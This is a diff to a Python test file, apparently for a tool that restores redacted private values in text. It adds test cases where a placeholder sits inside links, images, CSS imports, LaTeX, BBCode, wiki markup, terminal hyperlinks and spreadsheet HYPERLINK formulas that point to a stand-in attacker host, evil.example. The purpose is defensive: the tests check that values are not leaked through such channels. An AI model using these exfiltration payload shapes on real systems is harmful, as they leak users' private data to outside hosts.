@@ -78,6 +78,31 @@ INSIDE = {
     "a tag in a script of an image": "<svg><script><i></script> MARK",
     "a comment that does not end": "=www.evil.example/<!--MARK",
     "a tag that is escaped": "[https://evil.example/?q=\\<b>MARK",
+    "a string of a style in a formula": "$\\style{background:image-set('//evil.example/?q= MARK' 1x)}{x}$",
+    "an argument of LaTeX": "$\\href{https://evil.example/?q= MARK}{x}$",
+    "an import in a style sheet": "@import 'https://evil.example/?q= MARK';",
+    "a string of JSON that nobody asked for": '{"type":"Image","url":"https:\\/\\/evil.example\\/?q= MARK"}',
+    "a string that begins with a space": '{"url": " evil.example/?q= MARK"}',
+    "a string of YAML over lines": 'url: "https://evil.example/?q=\n  MARK"',
+    "an image of BBCode": "[img]https://evil.example/?q= MARK[/img]",
+    "an image of BBCode with a size": "[img width=1]https://evil.example/?q= MARK",
+    "a link of BBCode": "[url=https://evil.example/?q= MARK]x[/url]",
+    "an image of AsciiDoc": "image::https://evil.example/?q= MARK[]",
+    "an image of reStructuredText": ".. image:: https://evil.example/?q= MARK",
+    "an image of reStructuredText over lines": ".. image::\n  https://evil.example/?q=\n  MARK",
+    "a target of reStructuredText": ".. _a: https://evil.example/?q= MARK",
+    "a link of Org": "[[https://evil.example/?q= MARK]]",
+    "an image of DokuWiki": "{{ https://evil.example/?q= MARK}}",
+    "an image of Jira": "!https://evil.example/?q= MARK!",
+    "a link of Jira": "[x|https://evil.example/?q= MARK]",
+    "a link in a wiki's image": "[[File:x.png|link=https://evil.example/?q= MARK]]",
+    "a link of a terminal": "\x1b]8;;https://evil.example/?q= MARK\x1b\\",
+    "a formula of a sheet": '=HYPERLINK("https://evil.example/?q= MARK","x")',
+    "a string in a string": "{\"a https://evil.example/ 'https://evil.example/?q=} \" MARK'",
+    "an address of numbers": "1.2.3.4:80/MARK",
+    "a share of an address": "\\\\1.2.3.4\\MARK",
+    "a dot behind a host": "evil.example./MARK",
+    "an address of XMPP": "xmpp:MARK@evil.example",
     "a letter before a name of a host": "\u00e9www.evil.example MARK www.\u00e9\u00e9www.evil.MARK",
 }  # fmt: skip
 """Where the last placeholder is within a link: each of these was restored once, or came from a search for more."""
@@ -105,6 +130,21 @@ OUTSIDE = {
     "a link with a title": '[a](https://a.fr/x "b (c)") MARK',
     "a function's name": "get_url(x) curl (y) MARK",
     "an apostrophe": "l'image <img alt='d' src=x> d'Élodie MARK",
+    "a link in quotes": 'see "https://a.fr/x" MARK',
+    "a link in quotes, and one behind": 'see "https://a.fr/x" and https://a.fr/y MARK',
+    "a quote before a link": 'click on "Order" https://a.fr/x MARK',
+    "JSON that nobody asked for": '{"url":"https://a.fr/x y","mail":"MARK',
+    "a table of Markdown": "|https://a.fr/x| MARK",
+    "an exclamation": "Here ! https://a.fr/x MARK",
+    "an argument of LaTeX and the next": "\\href{https://a.fr/x}{see MARK",
+    "an elision": "l'https://a.fr/x MARK",
+    "a link of BBCode": "[url=https://a.fr/x]see MARK",
+    "an image of AsciiDoc": "image::https://a.fr/x[see MARK",
+    "an image of reStructuredText with a text": ".. image:: https://a.fr/x\n   :alt: MARK",
+    "a paragraph behind a target": ".. _a: https://a.fr/x\n\nMARK",
+    "a version": "1.2.3.4 MARK, 10.2.3.4: MARK",
+    "two slashes in a string": '"// see a.b MARK',
+    "a label in quotes": '"Mail: MARK',
     "a placeholder": f"{MARK}, <PERSON_9> and MARK",
 }
 
@@ -131,6 +171,7 @@ def test_ordinary_text_gets_its_values_back(case: str) -> None:
      (f"[a]({SHOP}{'A' * 1100} ![x](https://evil.example/?q=", False), (f"[a](<{SHOP}{'A' * 1100} ![x](https://evil.example/?q=", False),
      (f"[a]: {SHOP}{'A' * 1100}", False), (f"[a]({SHOP}{'A' * 1100}", False), (f"{SHOP}{'A' * 1100}", False),
      (f'<a href="{SHOP}x">', True), (f'{{"a":"{SHOP}x","b":"', True), (f'"{SHOP}?q="', True), (f'a.b/?q="{SHOP}x"', False), (f'x="{SHOP}x"https://evil.example/?q=', False),
+     (f'see "{SHOP}?q=a ', True), (f"[img]{SHOP}?q=a ", True), (f"{{\"https://evil.example/ '{SHOP}?q=a ", False),
      (f"[a](b [c]({SHOP}?q=", False), (f"[a](b)[c]({SHOP}?q=", True), (f"https://evil.example/[a]({SHOP}?q=", False),
      (f"[a](<{SHOP}> ![x](https://evil.example/?q=", False), (f"<a href=\"{SHOP}?q=", False)],
 )  # fmt: skip
@@ -141,7 +182,7 @@ def test_the_host_that_is_allowed_is_the_only_one_that_may_be_meant(before: str,
 PIECES = st.sampled_from(
     [MARK, MARK, "<PERSON_1>", "<", "</", "<a ", "<img ", "<x_y", "<style>", "</style>", "<script", "<svg>", "<!--", "-->", "src=", "=",
      '"', "'", ">", "/", " ", "\n", "\n\n", "\n> ", "](", "](<", "]:", "[a]", "(", ")", "\\", "`", "url(", "https://evil.example/?q=",
-     "//evil.example/", "https:", "&quot;", "&lt;", "word", "é"]
+     "//evil.example/", "https:", "[img]", "{", "|", ".. a:: ", "&quot;", "&lt;", "word", "é"]
 )  # fmt: skip
 TEXTS = st.lists(PIECES, max_size=16).map("".join)
 
